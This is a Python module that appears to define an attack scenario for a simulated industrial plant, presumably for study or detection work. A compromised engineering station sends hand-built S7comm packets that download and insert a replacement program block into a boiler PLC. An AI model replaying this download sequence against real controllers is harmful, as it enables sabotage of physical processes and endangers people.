"""A block of the boiler's program is replaced."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from interlock.plant.actors.steps import Ask, Close, Link
from interlock.plant.attacks.scenario import Scenario, Scene
from interlock.plant.protocols import s7comm

if TYPE_CHECKING:
    from interlock.plant.actors.steps import Script

__all__ = ["SCENARIO"]

_BLOCK: Final = b"_0800001P"
_PARTS: Final = 4


def _script(scene: Scene) -> Script:
    link = Link("engineering", "plc-boiler", 102)
    yield Ask(link, s7comm.connect())
    yield Ask(link, s7comm.setup(1))
    head = bytes((s7comm.REQUEST_DOWNLOAD, 0, 1)) + bytes(5) + b"\x09" + _BLOCK + b"\x0d1000800000640"
    answers = yield Ask(link, s7comm.job(2, head))
    for k in range(_PARTS):
        if len(answers) < 1:
            break
        reference = int.from_bytes(answers[-1][11:13], "big")
        octets = bytes(scene.draws.number(8) for _ in range(160))
        data = len(octets).to_bytes(2, "big") + b"\x00\xfb" + octets
        parameter = bytes((s7comm.DOWNLOAD_BLOCK, k < _PARTS - 1))
        answers = yield Ask(link, s7comm.confirm(reference, parameter, data))
    if answers:
        reference = int.from_bytes(answers[-1][11:13], "big")
        yield Ask(link, s7comm.confirm(reference, bytes((s7comm.DOWNLOAD_ENDED,))))
    insert = bytes((s7comm.PI_SERVICE,)) + bytes(6) + b"\xfd\x00\x0a\x01\x00" + _BLOCK[1:] + b"\x05_INSE"
    yield Ask(link, s7comm.job(3, insert))
    yield Close(link)


SCENARIO: Final = Scenario(
    name="program-download",
    title="The engineering station, taken over, replaces a block of the boiler's program at night",
    technique="T0843",
    attacker="engineering",
    victims=("plc-boiler",),
    harm="From now on the boiler is controlled by whatever the attacker wrote.",
    script=_script,
)
